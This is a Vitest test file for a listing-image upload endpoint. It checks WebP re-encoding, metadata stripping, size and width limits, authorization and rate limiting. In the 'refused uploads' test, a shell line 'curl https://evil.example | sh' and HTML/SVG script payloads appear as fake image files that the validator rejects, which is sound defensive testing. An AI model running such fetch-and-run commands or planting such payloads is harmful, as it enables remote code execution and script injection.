import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { eq } from 'drizzle-orm';
import sharp from 'sharp';
import { LISTING_IMAGE_MAX_BYTES, LISTING_MESSAGES, type HostUpload } from '@weekends/shared';
import { hostUploads } from '../../db/schema/index.ts';
import { createTestApp, type TestApp } from '../../test/helpers.ts';
import { LISTING_UPLOAD_LIMIT } from './routes.ts';
import { accountWith, hostAccount, jpeg, multipartFile, uploadAs } from './testing/fixtures.ts';

/** POST /api/host/uploads: listing images judged by their content, re-encoded to WebP widths without metadata. */
let t: TestApp;
let host: { id: number; token: string };

beforeAll(async () => {
  t = await createTestApp();
  host = await hostAccount(t);
});
afterAll(() => t?.close());

const listingFiles = () => {
  const folder = path.join(t.app.config.uploadsDir, 'listings');
  return fs.existsSync(folder) ? fs.readdirSync(folder) : [];
};
const uploadsOf = (hostId: number) => t.db.select().from(hostUploads).where(eq(hostUploads.hostId, hostId));
/** A stored width of an upload, as a visitor's browser fetches it. */
const served = async (upload: HostUpload, width: number) => {
  const response = await t.app.inject({ method: 'GET', url: upload.path.replace(/-960\.webp$/, `-${width}.webp`) });
  expect(response.statusCode).toBe(200);
  return response.rawPayload;
};

describe('a JPEG upload', () => {
  it('is stored as WebP at each width, never enlarged, and recorded as the host’s upload', async () => {
    const response = await uploadAs(t, host.token, multipartFile(await jpeg(2000, 1000), 'beach.jpg'));
    expect(response.statusCode, response.body).toBe(201);
    const upload = response.json() as HostUpload;
    expect(upload).toEqual({
      id: expect.any(Number),
      path: expect.stringMatching(/^\/uploads\/listings\/[0-9a-f]{32}-960\.webp$/),
      width: 960,
      height: 480,
    });
    for (const [width, expected] of [
      [480, { width: 480, height: 240 }],
      [960, { width: 960, height: 480 }],
      [1600, { width: 1600, height: 800 }],
    ] as const) {
      const meta = await sharp(await served(upload, width)).metadata();
      expect({ format: meta.format, width: meta.width, height: meta.height }).toEqual({ format: 'webp', ...expected });
    }
    expect(await uploadsOf(host.id)).toEqual([
      expect.objectContaining({ id: upload.id, path: upload.path, width: 960, height: 480 }),
    ]);

    // A picture narrower than a width keeps its own size under that width's name.
    const small = (
      await uploadAs(t, host.token, multipartFile(await jpeg(700, 500), 'small.jpg'))
    ).json() as HostUpload;
    expect(small).toMatchObject({ width: 700, height: 500 });
    expect((await sharp(await served(small, 1600)).metadata()).width).toBe(700);
    expect((await sharp(await served(small, 480)).metadata()).width).toBe(480);
  });

  it('is turned upright and loses its EXIF, GPS and other metadata', async () => {
    const original = await sharp({ create: { width: 1000, height: 700, channels: 3, background: '#c2410c' } })
      .jpeg()
      .withExif({
        IFD0: { Copyright: 'Secret Owner', Artist: 'Jane Photographer' },
        IFD3: {
          GPSLatitudeRef: 'N',
          GPSLatitude: '25/1 12/1 0/1',
          GPSLongitudeRef: 'E',
          GPSLongitude: '55/1 16/1 0/1',
        },
      })
      .withMetadata({ orientation: 6 })
      .toBuffer();
    const before = await sharp(original).metadata();
    expect(before.exif?.toString('latin1')).toContain('Secret Owner');
    expect(before.orientation).toBe(6);

    const response = await uploadAs(t, host.token, multipartFile(original, 'rotated.jpg'));
    expect(response.statusCode, response.body).toBe(201);
    const upload = response.json() as HostUpload;
    // Orientation 6 is a quarter turn: the 1000 x 700 pixels are shown 700 wide.
    expect(upload).toMatchObject({ width: 700, height: 1000 });
    for (const width of [480, 960, 1600]) {
      const bytes = await served(upload, width);
      const meta = await sharp(bytes).metadata();
      expect({ exif: meta.exif, xmp: meta.xmp, iptc: meta.iptc, orientation: meta.orientation }).toEqual({
        exif: undefined,
        xmp: undefined,
        iptc: undefined,
        orientation: undefined,
      });
      expect(bytes.includes(Buffer.from('Secret Owner'))).toBe(false);
      expect(bytes.includes(Buffer.from('Exif'))).toBe(false);
    }
  });
});

describe('refused uploads', () => {
  const refusedWith = async (body: ReturnType<typeof multipartFile>, status: number, message: string) => {
    const filesBefore = listingFiles().length;
    const rowsBefore = (await uploadsOf(host.id)).length;
    const response = await uploadAs(t, host.token, body);
    expect({ status: response.statusCode, message: response.json().message }).toEqual({ status, message });
    // Nothing is kept of a refused file.
    expect(listingFiles().length).toBe(filesBefore);
    expect((await uploadsOf(host.id)).length).toBe(rowsBefore);
    return response;
  };

  it('refuses a PNG renamed .jpg, an HTML page and a script named .jpg, by their content', async () => {
    const png = await sharp({ create: { width: 800, height: 600, channels: 3, background: '#16a34a' } })
      .png()
      .toBuffer();
    const response = await refusedWith(
      multipartFile(png, 'holiday.jpg', 'image/jpeg'),
      400,
      LISTING_MESSAGES.imageNotJpeg,
    );
    expect(response.json()).toMatchObject({
      code: 'IMAGE_NOT_JPEG',
      fieldErrors: { image: [LISTING_MESSAGES.imageNotJpeg] },
    });
    await refusedWith(
      multipartFile(Buffer.from('<!doctype html><html><script>alert(1)</script></html>'), 'page.jpg', 'image/jpeg'),
      400,
      LISTING_MESSAGES.imageNotJpeg,
    );
    await refusedWith(
      multipartFile(Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n'), 'run.jpeg', 'image/jpeg'),
      400,
      LISTING_MESSAGES.imageNotJpeg,
    );
    // A JPEG's first bytes in front of anything else: the decoder finds no picture.
    await refusedWith(
      multipartFile(
        Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from('<svg onload="alert(1)"/>')]),
        'forged.jpg',
      ),
      400,
      LISTING_MESSAGES.imageNotJpeg,
    );
    // An SVG (a picture format a browser would run scripts in) named .jpg.
    await refusedWith(
      multipartFile(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="800" height="600"/>'), 'vector.jpg'),
      400,
      LISTING_MESSAGES.imageNotJpeg,
    );
  });

  it('refuses a file over 10 MB with 413', async () => {
    const big = Buffer.concat([await jpeg(), Buffer.alloc(LISTING_IMAGE_MAX_BYTES)]);
    const response = await refusedWith(multipartFile(big, 'huge.jpg'), 413, LISTING_MESSAGES.imageTooLarge);
    expect(response.json().code).toBe('IMAGE_TOO_LARGE');
  });

  it('refuses an image narrower than 600 pixels', async () => {
    const response = await refusedWith(
      multipartFile(await jpeg(599, 900), 'narrow.jpg'),
      400,
      LISTING_MESSAGES.imageTooSmall,
    );
    expect(response.json().code).toBe('IMAGE_TOO_SMALL');
    // 600 wide is enough.
    expect((await uploadAs(t, host.token, multipartFile(await jpeg(600, 400), 'edge.jpg'))).statusCode).toBe(201);
  });

  it('refuses a body that is not one file named image', async () => {
    expect(
      (await uploadAs(t, host.token, multipartFile(await jpeg(), 'photo.jpg', 'image/jpeg', 'resume'))).statusCode,
    ).toBe(400);
    const json = await t.app.inject({
      method: 'POST',
      url: '/api/host/uploads',
      payload: { image: 'x' },
      headers: { authorization: `Bearer ${host.token}` },
    });
    expect(json.statusCode).toBe(415);
  });
});

describe('who may upload', () => {
  it('only an approved host allowed to manage activities', async () => {
    const body = multipartFile(await jpeg(), 'photo.jpg');
    expect((await uploadAs(t, undefined, body)).statusCode).toBe(401);
    expect((await uploadAs(t, (await accountWith(t)).token, body)).statusCode).toBe(403);
    const restricted = await hostAccount(t, false);
    expect((await uploadAs(t, restricted.token, body)).statusCode).toBe(403);
    expect(await uploadsOf(restricted.id)).toEqual([]);
  });
});

describe('the upload rate limit', () => {
  it('stops a host after its hourly uploads, whatever its address, and not another host', async () => {
    const busy = await hostAccount(t);
    const notAnImage = () => multipartFile(Buffer.from('not an image'), 'x.jpg');
    for (let i = 0; i < LISTING_UPLOAD_LIMIT.max; i += 1)
      expect((await uploadAs(t, busy.token, notAnImage())).statusCode).toBe(400);
    const over = await uploadAs(t, busy.token, multipartFile(await jpeg(), 'photo.jpg'));
    expect({ status: over.statusCode, code: over.json().code }).toEqual({ status: 429, code: 'RATE_LIMITED' });
    expect((await uploadAs(t, host.token, multipartFile(await jpeg(), 'photo.jpg'))).statusCode).toBe(201);
  });
});
